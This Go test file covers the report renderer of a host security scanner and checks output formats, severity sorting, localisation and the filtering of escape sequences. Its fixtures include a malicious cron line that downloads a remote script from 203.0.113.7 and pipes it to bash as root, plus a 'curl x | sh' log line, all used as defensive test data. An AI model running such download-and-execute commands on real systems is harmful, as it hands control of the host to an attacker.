package report

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/termtext"
	"github.com/vigil-ir/vigil/internal/testutil"
)

func fixtureResult() *model.Result {
	start := time.Date(2026, 11, 24, 3, 0, 0, 0, time.UTC)
	return &model.Result{
		SchemaVersion: model.SchemaVersion,
		Meta: model.ScanMeta{ID: "s1", Tool: "vigil", Version: "test", Started: start, Finished: start.Add(1500 * time.Millisecond),
			Target: model.TargetInfo{Root: "/", Live: true, Hostname: "web1", OS: "Debian GNU/Linux 12 (bookworm)"}},
		Findings: []model.Finding{
			{RuleID: "scan.coverage.incomplete", Severity: model.Low, Confidence: model.ConfMedium, Subject: "/etc/shadow", Evidence: model.Evidence{Path: "/etc/shadow"}, Fingerprint: "fp2"},
			{RuleID: "scan.coverage.incomplete", Severity: model.Critical, Confidence: model.ConfHigh, Technique: "T1053.003", Subject: "/etc/cron.d/php2",
				Indicators: []string{"download-exec"},
				Evidence:   model.Evidence{Path: "/etc/cron.d/php2", Line: 3, Text: "* * * * * root curl -fsSL http://203.0.113.7/x.sh | bash\x1b[2J", User: "root", When: "schedule", Package: model.NoPackage}, Fingerprint: "fp1"},
		},
		Gaps: []model.Gap{
			{Check: "accounts", Kind: model.GapError, Path: "/etc/gshadow", Reason: "permission denied"},
			{Check: "process", Kind: model.GapNotApplicable, Reason: "needs a live host"},
		},
		Summary: model.Summary{Counts: map[model.Severity]int{model.Critical: 1, model.Low: 1}, Total: 2, Suppressed: 1, Gaps: 2,
			Checks: []model.CheckStatus{{Name: "accounts", Status: "ok"}, {Name: "process", Status: "not-applicable"}}},
	}
}

func render(t *testing.T, format, lang string, verbose bool) []byte {
	t.Helper()
	var buf bytes.Buffer
	h, err := New(format, &buf, Options{Lang: lang, Catalog: catalog.MustLoad(), Verbose: verbose})
	if err != nil {
		t.Fatal(err)
	}
	if err := Replay(fixtureResult(), h); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestGoldenOutputs(t *testing.T) {
	tests := []struct {
		name, format, lang string
		verbose            bool
	}{
		{"table-en.txt", "table", catalog.English, false},
		{"table-zh.txt", "table", catalog.Chinese, true},
		{"result.json", "json", catalog.English, false},
		{"result.jsonl", "jsonl", catalog.Chinese, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			testutil.Golden(t, "testdata/"+tc.name, render(t, tc.format, tc.lang, tc.verbose))
		})
	}
}

func TestTableNeverPassesControlCharacters(t *testing.T) {
	out := render(t, "table", catalog.English, false)
	if bytes.Contains(out, []byte("\x1b")) {
		t.Fatal("evidence escape sequence reached the terminal")
	}
	if !strings.Contains(string(out), "CRITICAL") || strings.Index(string(out), "CRITICAL") > strings.Index(string(out), "LOW ") {
		t.Fatal("table not sorted by severity")
	}
}

func TestJSONKeysDoNotDependOnLanguage(t *testing.T) {
	keys := func(lang string) []string {
		var m map[string]any
		if err := json.Unmarshal(render(t, "json", lang, false), &m); err != nil {
			t.Fatal(err)
		}
		f := m["findings"].([]any)[0].(map[string]any)
		var ks []string
		for k := range f {
			ks = append(ks, k)
		}
		if f["severity"] != "critical" || f["rule_id"] != "scan.coverage.incomplete" {
			t.Fatalf("enum values changed with language %s: %v", lang, f)
		}
		return ks
	}
	if len(keys(catalog.English)) != len(keys(catalog.Chinese)) {
		t.Fatal("JSON keys differ between languages")
	}
}

func TestUnknownFormat(t *testing.T) {
	if _, err := New("xml", &bytes.Buffer{}, Options{}); err == nil {
		t.Fatal("unknown format accepted")
	}
}

func TestDisplayWidth(t *testing.T) {
	if termtext.Width("严重") != 4 || termtext.Width("HIGH") != 4 {
		t.Fatal("display width")
	}
}

// The heading names the kind of run, and English counts say "1 finding",
// "1 check".
func TestTableHeadingAndCounts(t *testing.T) {
	tests := []struct {
		kind, lang string
		want       []string
	}{
		{model.KindScan, catalog.English, []string{"Vigil scan of web1", "1 finding, ", "1 check, "}},
		{model.KindLogs, catalog.English, []string{"Vigil log analysis of web1", "1 finding, ", "1 check, "}},
		{model.KindFiles, catalog.English, []string{"Vigil file scan of web1"}},
		{model.KindHarden, catalog.English, []string{"Vigil hardening check of web1"}},
		{model.KindLogs, catalog.Chinese, []string{"Vigil 日志分析：web1", "1 项发现", "1 项检查"}},
	}
	for _, tc := range tests {
		r := fixtureResult()
		r.Meta.Kind = tc.kind
		r.Findings = r.Findings[:1]
		r.Summary.Total, r.Summary.Suppressed, r.Summary.Checks = 1, 0, r.Summary.Checks[:1]
		r.Summary.Counts = map[model.Severity]int{model.Low: 1}
		out := renderTable(t, r, tc.lang)
		for _, w := range tc.want {
			if !strings.Contains(out, w) {
				t.Errorf("%s/%s: %q not in\n%s", tc.kind, tc.lang, w, out)
			}
		}
	}
	if !strings.Contains(string(render(t, "table", catalog.English, false)), "2 findings") {
		t.Error("two findings not counted in the plural")
	}
}

// TestSigmaMatchNamesItsRule: the table says which Sigma rule matched (its
// location is only the log line), in the reader's language for Vigil's own.
func TestSigmaMatchNamesItsRule(t *testing.T) {
	for _, tc := range []struct{ lang, want string }{
		{catalog.English, "Download piped to a shell"},
		{catalog.Chinese, "下载内容直接交给 Shell 执行"},
	} {
		r := fixtureResult()
		r.Findings = []model.Finding{{RuleID: "logs.sigma.match", Severity: model.High, Confidence: model.ConfMedium, Subject: "Download piped to a shell",
			Evidence: model.Evidence{Path: "/var/log/syslog", Line: 1, Text: "curl x | sh", Extra: map[string]string{"sigma_id": "7f1c2d6e-5a1b-4c3d-9e8f-0a1b2c3d4e02"}}}}
		if out := renderTable(t, r, tc.lang); !strings.Contains(out, " — "+tc.want) {
			t.Errorf("%s: the rule's title %q not in\n%s", tc.lang, tc.want, out)
		}
	}
}

// renderTable is r as a table in lang.
func renderTable(t *testing.T, r *model.Result, lang string) string {
	t.Helper()
	var buf bytes.Buffer
	h, err := New("table", &buf, Options{Lang: lang, Catalog: catalog.MustLoad()})
	if err != nil {
		t.Fatal(err)
	}
	if err := Replay(r, h); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestTitleShowsSubject: a subject the location does not say (an address,
// an account) follows the title; a phrase, a path already shown, or an
// empty subject does not.
func TestTitleShowsSubject(t *testing.T) {
	tests := []struct {
		subject, path, want string
	}{
		{"203.0.113.9", "/var/log/auth.log", "T — 203.0.113.9"},
		{"deploy@203.0.113.9", "/var/log/auth.log", "T — deploy@203.0.113.9"},
		{"/var/log/auth.log", "/var/log/auth.log", "T"},
		{"kworker.service", "/etc/systemd/system/kworker.service", "T"},
		{"sudo NOPASSWD for www-data: ALL", "/etc/sudoers.d/www", "T"},
		{"", "/etc/passwd", "T"},
	}
	for _, tc := range tests {
		f := model.Finding{Title: "T", Subject: tc.subject, Evidence: model.Evidence{Path: tc.path, Line: 3}}
		if got := titleOf(f, Location(f)); got != tc.want {
			t.Errorf("subject %q at %s: %q, want %q", tc.subject, tc.path, got, tc.want)
		}
	}
}
